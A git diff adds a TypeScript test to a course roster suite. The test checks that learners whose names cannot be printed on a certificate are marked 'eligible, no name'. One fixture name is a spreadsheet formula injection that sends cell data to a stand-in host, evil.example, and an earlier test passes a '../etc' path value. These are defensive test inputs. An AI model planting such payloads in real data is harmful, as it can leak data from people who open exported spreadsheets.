@@ -61,4 +61,20 @@ describe('the roster', () => {
   it('reads junk parameters as defaults', () => {
     expect(query({ page: '-3', certification: 'everyone!', homework: '../etc', submitted: 'maybe', verdict: 'great' })).toEqual({ q: '', page: 1, certification: 'all', homework: undefined, submitted: 'yes', verdict: 'any' })
   })
+
+  it('says "eligible, no name" for an eligible learner whose name cannot be printed on a certificate', async () => {
+    const homeworkOnly = { ...mini, config: { ...mini.config, certificate: { min_homework_score: 0.5, project_required: false, reviews_required: 0 } } }
+    const maxPoints = mini.weeks.reduce((sum, week) => sum + (week.homework?.totalPoints ?? 0), 0)
+    const enrol = async (email: string, name: string, certificateName: string | null = null) => {
+      const user = await db.user.create({ data: { email, name } })
+      await db.enrollment.create({ data: { userId: user.id, courseId: seeded.courseId, points: 1000, homeworkPoints: maxPoints, certificateName } })
+    }
+    await enrol('hostile@example.com', '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    await enrol('renamed@example.com', '=HYPERLINK("x")', 'Ada Lovelace')
+    await enrol('plain@example.com', 'Alan Turing')
+    const states = async (q: string) => (await roster(seeded.courseId, homeworkOnly, query({ q }))).rows.map((row) => row.certification)
+    expect(await states('hostile@')).toEqual(['eligible_no_name'])
+    expect(await states('renamed@')).toEqual(['eligible'])
+    expect(await states('plain@')).toEqual(['eligible'])
+  })
 })
